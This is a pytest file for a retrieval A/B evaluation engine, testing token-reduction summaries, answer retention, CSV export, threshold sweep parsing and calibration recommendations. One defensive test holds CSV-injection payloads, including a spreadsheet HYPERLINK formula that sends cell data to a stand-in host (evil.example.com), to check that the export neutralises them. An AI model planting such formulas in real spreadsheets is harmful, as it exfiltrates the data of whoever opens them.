"""The A/B engine: the seed's output shape, the measures on hand-made cases, sweep parsing, Pareto front and the
recommendation on the fixture library."""

from __future__ import annotations

import json

import pytest

from oraculo.evaluation import (
    EvalParams,
    EvalParamsError,
    answer_in_context,
    calibration_sweep,
    cites_source,
    eval_params_build,
    evaluation_run,
    overlap_share,
    pareto_front,
    report_csv,
    retention_pct,
    summary_build,
    sweep_parse,
)
from oraculo.questions import LabelledQuestion

SEED_SUMMARY_KEYS = [
    "questions",
    "top_k",
    "trim_threshold",
    "trim_window",
    "avg_tokens_baseline",
    "avg_tokens_trim",
    "token_reduction_pct",
    "avg_overlap_vs_baseline",
]
SEED_VARIANT_KEYS = ["chunk_ids", "top_score", "tokens", "tokens_before"]

GOLD = [
    LabelledQuestion("How long is a password reset link valid?", "30 minutes"),
    LabelledQuestion("When does deleting an account become permanent?", "after 14 days"),
    LabelledQuestion("How many API requests per minute are allowed per token?", "100 requests per minute"),
    LabelledQuestion("When are invoices sent?", "on the first day of each month"),
    LabelledQuestion("¿Cuántos caracteres debe tener una contraseña?", "12 caracteres"),
    LabelledQuestion("¿Cuánto cuesta el plan Equipo?", "11 € por puesto al mes"),
]


def params(**kw) -> EvalParams:
    return eval_params_build(**kw)


def hand_result(
    *,
    base_tokens: int,
    trim_tokens: int,
    base_ids,
    trim_ids,
    base_hit=None,
    trim_hit=None,
    expected: str = "",
) -> dict:
    base = {
        "chunk_ids": base_ids,
        "top_score": 0.9,
        "tokens": base_tokens,
        "tokens_before": base_tokens,
        "latency_ms": 10.0,
    }
    trim = {
        "chunk_ids": trim_ids,
        "top_score": 0.9,
        "tokens": trim_tokens,
        "tokens_before": base_tokens,
        "overlap_vs_baseline": round(overlap_share(base_ids, trim_ids), 2),
        "latency_ms": 12.0,
        "trim_embedding_calls": 0,
    }
    result = {"question": "q", "variants": {"baseline": base, "trim": trim}}
    if expected:
        result["expected_answer"] = expected
        base["answer_in_context"], trim["answer_in_context"] = base_hit, trim_hit
    return result


# The seed's shape, on the real fixture library


@pytest.mark.django_db
def test_output_has_the_seeds_shape_key_by_key(library):
    questions = [
        LabelledQuestion("How do I reset my password?"),
        LabelledQuestion("¿Cómo elimino mi cuenta?"),
    ]
    report = evaluation_run(
        questions=questions, params=params(app=library, trim_threshold=0.85, trim_window=1)
    )
    out = json.loads(json.dumps(report.as_dict()))

    assert list(out) == ["summary", "results"]
    summary = out["summary"]
    assert list(summary)[: len(SEED_SUMMARY_KEYS)] == SEED_SUMMARY_KEYS
    assert summary["questions"] == 2
    assert summary["top_k"] == 5
    assert summary["trim_threshold"] == 0.85
    assert summary["trim_window"] == 1
    for key in ("avg_tokens_baseline", "avg_tokens_trim", "token_reduction_pct"):
        assert isinstance(summary[key], int), key
    assert isinstance(summary["avg_overlap_vs_baseline"], float)
    assert summary["avg_overlap_vs_baseline"] == round(summary["avg_overlap_vs_baseline"], 2)
    assert summary["trim_embedding_calls"] == 0

    assert len(out["results"]) == 2
    for question, result in zip(questions, out["results"]):
        assert list(result) == ["question", "variants"]
        assert result["question"] == question.question
        assert list(result["variants"]) == ["baseline", "trim"]
        base, trim = result["variants"]["baseline"], result["variants"]["trim"]
        assert list(base)[:4] == SEED_VARIANT_KEYS
        assert list(trim)[:5] == [*SEED_VARIANT_KEYS, "overlap_vs_baseline"]
        assert all(isinstance(i, int) for i in base["chunk_ids"]) and len(base["chunk_ids"]) == 5
        assert base["tokens"] == base["tokens_before"] == trim["tokens_before"]
        assert trim["tokens"] <= base["tokens"]
        assert set(trim["chunk_ids"]) <= set(base["chunk_ids"])
        assert base["top_score"] == round(base["top_score"], 3) and 0 < base["top_score"] <= 1
        assert trim["overlap_vs_baseline"] == round(
            len(set(trim["chunk_ids"]) & set(base["chunk_ids"])) / len(base["chunk_ids"]), 2
        )
        assert base["latency_ms"] > 0 and trim["latency_ms"] >= base["latency_ms"]
        assert trim["trim_embedding_calls"] == 0
        assert "answer" not in base and "answer_in_context" not in base
    reduction = round(100 * (1 - summary["avg_tokens_trim"] / summary["avg_tokens_baseline"]))
    assert abs(summary["token_reduction_pct"] - reduction) <= 1


@pytest.mark.django_db
def test_only_the_chosen_variants_are_reported(library):
    report = evaluation_run(
        questions=[LabelledQuestion("How do I reset my password?")],
        params=params(app=library, variants=["baseline"]),
    )
    assert list(report.results[0]["variants"]) == ["baseline"]
    assert report.summary["avg_tokens_trim"] is None and report.summary["token_reduction_pct"] is None

    report = evaluation_run(
        questions=[LabelledQuestion("How do I reset my password?")],
        params=params(app=library, variants=["trim"]),
    )
    assert list(report.results[0]["variants"]) == ["trim"]
    assert report.summary["avg_tokens_baseline"] == report.results[0]["variants"]["trim"]["tokens_before"]


@pytest.mark.django_db
def test_labelled_questions_report_answer_in_context_and_retention(library):
    report = evaluation_run(questions=GOLD, params=params(app=library, trim_threshold=0.85, trim_window=1))
    for question, result in zip(GOLD, report.results):
        assert result["expected_answer"] == question.expected_answer
        for variant in result["variants"].values():
            assert isinstance(variant["answer_in_context"], bool)
    hits = [
        (r["variants"]["baseline"]["answer_in_context"], r["variants"]["trim"]["answer_in_context"])
        for r in report.results
    ]
    assert sum(b for b, _ in hits) >= 5, "the fixture library holds these answers"
    assert report.summary["labelled"] == len(GOLD)
    assert report.summary["answer_in_context_baseline"] == sum(b for b, _ in hits)
    assert report.summary["answer_retention_pct"] == round(retention_pct(hits), 1)


@pytest.mark.django_db
def test_progress_is_reported_after_each_question(library):
    seen = []
    evaluation_run(
        questions=GOLD[:3],
        params=params(app=library),
        on_progress=lambda done, total, result: seen.append((done, total, result["question"])),
    )
    assert seen == [(i + 1, 3, q.question) for i, q in enumerate(GOLD[:3])]


# Measures on hand-made cases


def test_overlap_is_the_share_of_baseline_chunks_still_present():
    assert overlap_share([1, 2, 3], [1, 2]) == pytest.approx(2 / 3)
    assert overlap_share([1, 2, 3], [3, 2, 1]) == 1.0
    assert overlap_share([1, 2, 3, 4], [9]) == 0.0
    assert overlap_share([1, 2], [1, 2, 7]) == 1.0
    assert overlap_share([], []) is None


def test_summary_reproduces_the_seed_example_numbers():
    results = [
        hand_result(base_tokens=180, trim_tokens=95, base_ids=[1, 2, 3], trim_ids=[1, 2]),
        hand_result(base_tokens=132, trim_tokens=83, base_ids=[4, 5], trim_ids=[4, 5]),
    ]
    summary = summary_build(results=results, params=params(trim_threshold=0.38, trim_window=1))
    assert {k: summary[k] for k in SEED_SUMMARY_KEYS} == {
        "questions": 2,
        "top_k": 5,
        "trim_threshold": 0.38,
        "trim_window": 1,
        "avg_tokens_baseline": 156,
        "avg_tokens_trim": 89,
        "token_reduction_pct": 43,
        "avg_overlap_vs_baseline": 0.83,
    }


def test_retention_counts_trim_hits_among_baseline_hits_only():
    assert retention_pct([(True, True), (True, False), (False, True), (True, True)]) == pytest.approx(200 / 3)
    assert retention_pct([(False, False), (False, True)]) is None
    results = [
        hand_result(
            base_tokens=100,
            trim_tokens=50,
            base_ids=[1],
            trim_ids=[1],
            expected="a",
            base_hit=True,
            trim_hit=True,
        ),
        hand_result(
            base_tokens=100,
            trim_tokens=50,
            base_ids=[1],
            trim_ids=[1],
            expected="b",
            base_hit=True,
            trim_hit=False,
        ),
        hand_result(
            base_tokens=100,
            trim_tokens=50,
            base_ids=[1],
            trim_ids=[1],
            expected="c",
            base_hit=False,
            trim_hit=True,
        ),
        hand_result(base_tokens=100, trim_tokens=50, base_ids=[1], trim_ids=[1]),
    ]
    summary = summary_build(results=results, params=params())
    assert summary["labelled"] == 3
    assert summary["answer_in_context_baseline"] == 2
    assert summary["answer_in_context_trim"] == 2
    assert summary["answer_retention_pct"] == 50.0


def test_answer_in_context_normalises_case_accents_spaces_and_end_punctuation():
    context = ["El enlace  caduca a los\n30 MINUTOS. Pide uno nuevo.", "Facturación: 11 € por puesto al mes."]
    assert answer_in_context(expected="30 minutos", texts=context)
    assert answer_in_context(expected="  «30 minutos.» ", texts=context)
    assert answer_in_context(expected="FACTURACION", texts=context)
    assert answer_in_context(expected="11 € por puesto", texts=context)
    assert not answer_in_context(expected="3 minutos", texts=context), "whole words only"
    assert not answer_in_context(expected="30 minutos pide uno nuevo hoy", texts=context)
    assert not answer_in_context(expected="...", texts=context)
    assert not answer_in_context(expected="30 minutos", texts=["El enlace caduca a los 30 [...] minutos."])


def test_cites_source_looks_for_bracketed_numbers():
    assert cites_source("Open Settings [1].")
    assert cites_source("Yes [2][3]")
    assert not cites_source("See the docs [a] or (1).")
    assert not cites_source(None)


def test_csv_export_has_one_row_per_question_with_variants_side_by_side():
    results = [
        hand_result(
            base_tokens=180,
            trim_tokens=95,
            base_ids=[1, 2, 3],
            trim_ids=[1, 2],
            expected="x",
            base_hit=True,
            trim_hit=False,
        )
    ]
    text = report_csv({"summary": {"variants": ["baseline", "trim"]}, "results": results})
    lines = text.strip().splitlines()
    header = lines[0].split(",")
    assert header[:3] == ["position", "question", "expected_answer"]
    assert "baseline_tokens" in header and "trim_overlap_vs_baseline" in header
    row = dict(zip(header, lines[1].split(",")))
    assert row["baseline_tokens"] == "180" and row["trim_tokens"] == "95"
    assert row["baseline_chunk_ids"] == "1 2 3" and row["trim_overlap_vs_baseline"] == "0.67"
    assert row["baseline_answer_in_context"] == "True" and row["trim_answer_in_context"] == "False"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example.com/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(text):
    import csv
    import io

    result = hand_result(base_tokens=10, trim_tokens=5, base_ids=[1], trim_ids=[1], expected=text)
    result["question"] = text
    result["variants"]["baseline"]["answer"] = text
    result["error"] = text
    rows = list(
        csv.DictReader(
            io.StringIO(report_csv({"summary": {"variants": ["baseline", "trim"]}, "results": [result]}))
        )
    )
    for field in ("question", "expected_answer", "baseline_answer", "error"):
        assert rows[0][field] == "'" + text
    assert rows[0]["baseline_tokens"] == "10" and rows[0]["trim_top_score"] == "0.9"


def test_csv_keeps_ordinary_text_and_negative_numbers_as_they_are():
    import csv
    import io

    result = hand_result(base_tokens=10, trim_tokens=5, base_ids=[1], trim_ids=[1], expected="a - b = c")
    result["variants"]["baseline"]["top_score"] = -0.25
    rows = list(csv.DictReader(io.StringIO(report_csv({"results": [result]}))))
    assert rows[0]["expected_answer"] == "a - b = c" and rows[0]["baseline_top_score"] == "-0.25"


# Parameters and sweep parsing


def test_defaults_are_the_seeds(settings):
    settings.RETRIEVAL_TRIM_THRESHOLD = 0.77
    p = eval_params_build()
    assert p.variants == ("baseline", "trim")
    assert p.top_k == 5
    assert p.trim_threshold == 0.77
    assert p.trim_window == settings.RETRIEVAL_TRIM_WINDOW
    assert p.synthesize is False and p.sweep is None
    assert EvalParams.from_dict(json.loads(json.dumps(p.as_dict()))) == p


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"top_k": 21}, "top_k must be"),
        ({"top_k": 0}, "top_k must be"),
        ({"variants": ["baseline", "fancy"]}, "Unknown variant"),
        ({"trim_threshold": 1.5}, "trim_threshold"),
        ({"trim_window": -1}, "trim_window"),
        ({"min_retention": 99}, "give a sweep"),
        ({"sweep": ["threshold=0.7,0.8"], "min_overlap": 120}, "min_overlap is a percentage"),
    ],
)
def test_bad_parameters_say_what_is_wrong(kwargs, message):
    with pytest.raises(EvalParamsError, match=message):
        eval_params_build(**kwargs)


def test_sweep_ranges_are_inclusive_and_free_of_float_drift():
    thresholds, windows = sweep_parse(
        ["threshold=0.70:0.90:0.02", "window=0,1,2"], default_threshold=0.8, default_window=1
    )
    assert thresholds == (0.7, 0.72, 0.74, 0.76, 0.78, 0.8, 0.82, 0.84, 0.86, 0.88, 0.9)
    assert windows == (0, 1, 2)
    assert sweep_parse("threshold=0.1:0.3:0.1", default_threshold=0.8, default_window=1)[0] == (0.1, 0.2, 0.3)
    assert sweep_parse(["threshold=0.70:0.90:0.03"], default_threshold=0.8, default_window=1)[0][-1] == 0.88


def test_a_sweep_axis_left_out_is_held_at_its_default():
    assert sweep_parse(["window=0:2:1"], default_threshold=0.81, default_window=1) == ((0.81,), (0, 1, 2))
    assert sweep_parse(["threshold=0.7,0.8"], default_threshold=0.81, default_window=2) == ((0.7, 0.8), (2,))


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("threshold=0.90:0.70:0.02", "start .* is after the stop"),
        ("threshold=0.70:0.90:0", "step must be positive"),
        ("threshold=0.70:0.90", "start:stop:step"),
        ("threshold=a:b:c", "'a' is not a number"),
        ("threshold=0.5,nan", "not a finite number"),
        ("threshold=0.5:1.5:0.5", "outside"),
        ("window=0.5", "not a whole number"),
        ("window=-1", "not a whole number"),
        ("gamma=1", "is not threshold=... or window=..."),
        ("threshold", "is not threshold=... or window=..."),
        ("threshold=0.7 threshold=0.8", "given twice"),
        ("threshold=0:1:0.001", "at most 200"),
        ("threshold=0.50:0.99:0.01 window=0,1,2,3,4", "combinations; at most 200"),
        ("", "give threshold"),
    ],
)
def test_bad_sweeps_are_refused_clearly(spec, message):
    with pytest.raises(EvalParamsError, match=message):
        sweep_parse(spec, default_threshold=0.8, default_window=1)


def test_pareto_front_keeps_the_points_nobody_beats_on_both_axes():
    points = [(10, 100), (20, 99), (20, 95), (30, 90), (25, 90), (5, 100), (30, 90)]
    assert pareto_front(points) == {0, 1, 3, 6}


# The calibration sweep on the fixture library


@pytest.fixture
def seed_trimming(settings):
    """The seed's trimming rules (no query-level margins), so these expectations do not move with tuning."""
    settings.RETRIEVAL_TRIM_MIN_SENTENCES = 1
    settings.RETRIEVAL_TRIM_RELATIVE_MARGIN = None
    settings.RETRIEVAL_TRIM_DROP_MARGIN = None
    settings.RETRIEVAL_TRIM_DROP_SCORE_MARGIN = None
    settings.RETRIEVAL_TRIM_PASSAGE_MARGIN = None


@pytest.mark.django_db
def test_sweep_recommends_the_largest_reduction_that_keeps_the_floor(library, seed_trimming):
    report = calibration_sweep(
        questions=GOLD,
        thresholds=[0.75, 0.8, 0.85, 0.9, 0.95],
        windows=[0, 1, 2],
        filters={"app": library},
        min_retention=100,
    )
    assert len(report.rows) == 15
    assert report.quality == "answer_retention_pct"
    assert report.labelled == len(GOLD) and report.answer_in_context_baseline >= 5
    assert all(row.trim_embedding_calls == 0 for row in report.rows)
    assert any(row.token_reduction_pct > 0 for row in report.rows)
    keeping = [row for row in report.rows if row.answer_retention_pct == 100.0]
    assert [row.meets_floor for row in report.rows] == [row in keeping for row in report.rows]
    rec = report.recommended
    assert rec is not None and rec.meets_floor and rec.answer_retention_pct >= 100
    assert rec.token_reduction_pct == max(row.token_reduction_pct for row in keeping)
    assert any(
        not row.meets_floor and row.token_reduction_pct > rec.token_reduction_pct for row in report.rows
    ), "the floor binds: cutting harder loses answers on this gold set"
    assert rec.env_lines == [
        f"RETRIEVAL_TRIM_THRESHOLD={rec.threshold:g}",
        f"RETRIEVAL_TRIM_WINDOW={rec.window}",
    ]
    front = [row for row in report.rows if row.pareto]
    assert rec in front
    for row in report.rows:
        beaten = any(
            o.token_reduction_pct >= row.token_reduction_pct
            and o.answer_retention_pct >= row.answer_retention_pct
            and (
                o.token_reduction_pct > row.token_reduction_pct
                or o.answer_retention_pct > row.answer_retention_pct
            )
            for o in report.rows
        )
        assert row.pareto == (not beaten)


@pytest.mark.django_db
def test_a_looser_floor_never_recommends_less_reduction(library, seed_trimming):
    strict = calibration_sweep(
        questions=GOLD,
        thresholds=[0.8, 0.9, 0.95],
        windows=[0, 1],
        filters={"app": library},
        min_retention=100,
    )
    loose = calibration_sweep(
        questions=GOLD, thresholds=[0.8, 0.9, 0.95], windows=[0, 1], filters={"app": library}, min_retention=0
    )
    assert loose.recommended.token_reduction_pct == max(r.token_reduction_pct for r in loose.rows)
    assert loose.recommended.token_reduction_pct >= strict.recommended.token_reduction_pct


@pytest.mark.django_db
def test_sweep_without_labels_uses_overlap_and_an_impossible_floor_recommends_nothing(library, seed_trimming):
    questions = [LabelledQuestion(q.question) for q in GOLD]
    report = calibration_sweep(
        questions=questions, thresholds=[0.8, 0.9], windows=[0, 1], filters={"app": library}
    )
    assert report.quality == "avg_overlap_vs_baseline"
    assert report.floor == {"min_retention": None, "min_overlap": 95.0}
    assert report.recommended is not None and report.recommended.avg_overlap_vs_baseline >= 0.95
    assert all(row.answer_retention_pct is None for row in report.rows)

    report = calibration_sweep(
        questions=[LabelledQuestion("How do I reset my password?", "no such answer")],
        thresholds=[0.8],
        windows=[1],
        filters={"app": library},
        min_retention=99,
    )
    assert report.recommended is None
    assert "never contains the expected answers" in report.note


@pytest.mark.django_db
def test_an_evaluation_with_a_sweep_reports_both(library):
    p = params(app=library, sweep=["threshold=0.8,0.9", "window=0,1"], min_retention=90)
    report = evaluation_run(questions=GOLD[:3], params=p)
    out = report.as_dict()
    assert list(out) == ["summary", "results", "sweep"]
    assert len(out["sweep"]["rows"]) == 4
    assert out["sweep"]["floor"] == {"min_retention": 90.0, "min_overlap": None}
    assert out["sweep"]["env"] == (report.sweep.recommended.env_lines if report.sweep.recommended else [])


@pytest.mark.django_db
def test_the_sweep_measures_exactly_what_the_ab_run_measures(library):
    p = params(app=library, trim_threshold=0.85, trim_window=1, sweep=["threshold=0.8,0.85", "window=0,1"])
    report = evaluation_run(questions=GOLD, params=p)
    row = next(r for r in report.sweep.rows if (r.threshold, r.window) == (0.85, 1))
    trim_tokens = [r["variants"]["trim"]["tokens"] for r in report.results]
    assert row.avg_tokens_trim == round(sum(trim_tokens) / len(trim_tokens))
    assert report.sweep.avg_tokens_baseline == report.summary["avg_tokens_baseline"]
    assert row.answer_retention_pct == report.summary["answer_retention_pct"]


@pytest.mark.django_db
def test_chunks_dropped_by_the_trimmer_lower_the_overlap(library, settings):
    settings.RETRIEVAL_TRIM_DROP_MARGIN = 0.0
    report = evaluation_run(questions=GOLD, params=params(app=library, trim_threshold=0.95, trim_window=0))
    overlaps = []
    for result in report.results:
        base, trim = result["variants"]["baseline"], result["variants"]["trim"]
        assert set(trim["chunk_ids"]) < set(base["chunk_ids"])
        assert trim["overlap_vs_baseline"] == round(len(trim["chunk_ids"]) / len(base["chunk_ids"]), 2)
        overlaps.append(trim["overlap_vs_baseline"])
    assert report.summary["avg_overlap_vs_baseline"] == round(
        sum(
            len(r["variants"]["trim"]["chunk_ids"]) / len(r["variants"]["baseline"]["chunk_ids"])
            for r in report.results
        )
        / len(report.results),
        2,
    )
    assert max(overlaps) < 1.0
